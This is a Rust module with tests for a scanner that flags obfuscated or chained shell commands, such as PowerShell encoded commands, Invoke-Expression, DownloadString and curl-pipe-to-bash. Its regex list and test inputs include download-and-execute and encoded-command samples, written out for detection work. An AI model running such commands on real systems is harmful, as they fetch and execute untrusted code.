//! Adversarial signature scanning for candidate commands.

use std::sync::LazyLock;

use regex::Regex;

/// Which rule family produced a detection.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DetectionKind {
    Obfuscation,
    Chaining,
    Heuristic,
}

/// One suspicious signature found in a command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Detection {
    pub kind: DetectionKind,
    pub reason: String,
}

impl Detection {
    fn new(kind: DetectionKind, reason: String) -> Self {
        Self { kind, reason }
    }
}

impl std::fmt::Display for Detection {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.reason)
    }
}

struct Signature {
    kind: DetectionKind,
    regex: Regex,
    label: &'static str,
}

const OBFUSCATION_SIGNATURES: &[(&str, &str)] = &[
    (r"\^", "Caret Obfuscation (cmd.exe style)"),
    (r"%.+%", "Variable Expansion Obfuscation"),
    (r"\$\{!\w+", "Indirect Variable Expansion"),
    (r"\$env:\w+", "Environment Variable Access"),
    (r"\[char\]", "Char Casting Obfuscation"),
    (r"base64", "Base64 Encoding"),
    (r"-enc(odedcommand)?\s+", "Encoded Command Execution"),
    (r"invoke-expression", "Invoke-Expression (IEX) Usage"),
    (r"\biex\s+", "IEX Alias Usage"),
    (r"downloadstring", "Web Download Attempt"),
    (r"\b(curl|wget)\b[^|]*\|\s*(ba|z|da)?sh\b", "Download-and-Execute Pipe"),
    (r"hidden", "Hidden Window Attempt"),
    (r"bypass", "Execution Policy Bypass Attempt"),
];

const CHAINING_SIGNATURES: &[(&str, &str)] = &[
    (r";", "Command Chaining (Semicolon)"),
    (r"&", "Command Chaining (Ampersand)"),
    (r"\|", "Pipeline Chaining"),
];

static SIGNATURES: LazyLock<Vec<Signature>> = LazyLock::new(|| {
    let obfuscation = OBFUSCATION_SIGNATURES
        .iter()
        .map(|(p, label)| (DetectionKind::Obfuscation, *p, *label));
    let chaining = CHAINING_SIGNATURES
        .iter()
        .map(|(p, label)| (DetectionKind::Chaining, *p, *label));
    obfuscation
        .chain(chaining)
        .map(|(kind, pattern, label)| Signature {
            kind,
            regex: Regex::new(pattern).unwrap(),
            label,
        })
        .collect()
});

const MAX_SEPARATORS: usize = 2;
const MAX_PIPES: usize = 3;
const MAX_COMMAND_CHARS: usize = 1000;

/// Stateless scanner for obfuscation and chaining abuse.
#[derive(Debug, Clone, Copy, Default)]
pub struct AntiPatternScanner;

impl AntiPatternScanner {
    /// Scan `command` case-insensitively. Empty input yields no detections.
    #[must_use]
    pub fn scan(command: &str) -> Vec<Detection> {
        if command.is_empty() {
            return Vec::new();
        }

        let lowered = command.to_lowercase();
        let mut detections: Vec<Detection> = SIGNATURES
            .iter()
            .filter(|sig| sig.regex.is_match(&lowered))
            .map(|sig| {
                Detection::new(
                    sig.kind,
                    format!("Suspicious Pattern Detected: {}", sig.label),
                )
            })
            .collect();

        let separators = lowered.matches(';').count();
        if separators > MAX_SEPARATORS {
            detections.push(Detection::new(
                DetectionKind::Chaining,
                format!("Excessive Chaining Detected ({separators} commands)"),
            ));
        }

        let pipes = lowered.matches('|').count();
        if pipes > MAX_PIPES {
            detections.push(Detection::new(
                DetectionKind::Chaining,
                format!("Complex Pipeline Detected ({pipes} pipes)"),
            ));
        }

        if command.chars().count() > MAX_COMMAND_CHARS {
            detections.push(Detection::new(
                DetectionKind::Heuristic,
                format!("Command Length Exceeds Safety Threshold (>{MAX_COMMAND_CHARS} chars)"),
            ));
        }

        detections
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn reasons(command: &str) -> Vec<String> {
        AntiPatternScanner::scan(command)
            .into_iter()
            .map(|d| d.reason)
            .collect()
    }

    #[test]
    fn empty_input_is_clean() {
        assert!(AntiPatternScanner::scan("").is_empty());
    }

    #[test]
    fn plain_command_is_clean() {
        assert!(AntiPatternScanner::scan("Get-ChildItem -Path .\\docs").is_empty());
        assert!(AntiPatternScanner::scan("ls -la ./src").is_empty());
    }

    #[test]
    fn detects_invoke_expression_case_insensitive() {
        let found = reasons("INVOKE-EXPRESSION $payload");
        assert!(found.iter().any(|r| r.contains("Invoke-Expression (IEX) Usage")));
    }

    #[test]
    fn detects_encoded_command() {
        let found = AntiPatternScanner::scan("powershell -enc SQBFAFgA");
        assert!(
            found
                .iter()
                .any(|d| d.kind == DetectionKind::Obfuscation
                    && d.reason.contains("Encoded Command Execution"))
        );
    }

    #[test]
    fn detects_char_casting() {
        let found = reasons("[char]73 + [char]69");
        assert!(found.iter().any(|r| r.contains("Char Casting Obfuscation")));
    }

    #[test]
    fn detects_download_and_execute() {
        let found = reasons("(New-Object Net.WebClient).DownloadString('http://x')");
        assert!(found.iter().any(|r| r.contains("Web Download Attempt")));

        let found = reasons("curl -fsSL https://example.com/i.sh | bash");
        assert!(found.iter().any(|r| r.contains("Download-and-Execute Pipe")));
    }

    #[test]
    fn detects_indirect_expansion() {
        let found = reasons("echo ${!name}");
        assert!(found.iter().any(|r| r.contains("Indirect Variable Expansion")));
        let found = reasons("echo %COMSPEC%");
        assert!(found.iter().any(|r| r.contains("Variable Expansion Obfuscation")));
    }

    #[test]
    fn single_pipe_is_chaining_signature_only() {
        let found = AntiPatternScanner::scan("Get-Process | Sort-Object CPU");
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].kind, DetectionKind::Chaining);
        assert_eq!(found[0].reason, "Suspicious Pattern Detected: Pipeline Chaining");
    }

    #[test]
    fn two_separators_are_not_excessive() {
        let found = reasons("a; b; c");
        assert!(!found.iter().any(|r| r.starts_with("Excessive Chaining")));
    }

    #[test]
    fn three_separators_are_excessive() {
        let found = reasons("a; b; c; d");
        assert!(found.contains(&"Excessive Chaining Detected (3 commands)".to_owned()));
    }

    #[test]
    fn four_pipes_are_complex() {
        let found = reasons("a | b | c | d | e");
        assert!(found.contains(&"Complex Pipeline Detected (4 pipes)".to_owned()));
        let found = reasons("a | b | c | d");
        assert!(!found.iter().any(|r| r.starts_with("Complex Pipeline")));
    }

    #[test]
    fn long_command_trips_length_heuristic() {
        let command = "x".repeat(1001);
        let found = AntiPatternScanner::scan(&command);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].kind, DetectionKind::Heuristic);

        assert!(AntiPatternScanner::scan(&"x".repeat(1000)).is_empty());
    }

    #[test]
    fn length_counts_characters_not_bytes() {
        // 600 two-byte characters: 1200 bytes, 600 chars.
        assert!(AntiPatternScanner::scan(&"ş".repeat(600)).is_empty());
    }

    #[test]
    fn display_is_reason() {
        let d = &AntiPatternScanner::scan("a & b")[0];
        assert_eq!(d.to_string(), d.reason);
    }

    proptest! {
        #[test]
        fn scan_is_pure(command in ".{0,200}") {
            prop_assert_eq!(
                AntiPatternScanner::scan(&command),
                AntiPatternScanner::scan(&command)
            );
        }

        #[test]
        fn alphanumeric_commands_are_clean(command in "[a-z0-9 ]{0,120}") {
            let lowered = command.to_lowercase();
            prop_assume!(!lowered.contains("base64"));
            prop_assume!(!lowered.contains("hidden"));
            prop_assume!(!lowered.contains("bypass"));
            prop_assume!(!lowered.contains("downloadstring"));
            prop_assume!(!lowered.contains("invoke"));
            prop_assume!(!lowered.contains("iex "));
            prop_assume!(!lowered.contains("enc "));
            prop_assert!(AntiPatternScanner::scan(&command).is_empty());
        }
    }
}
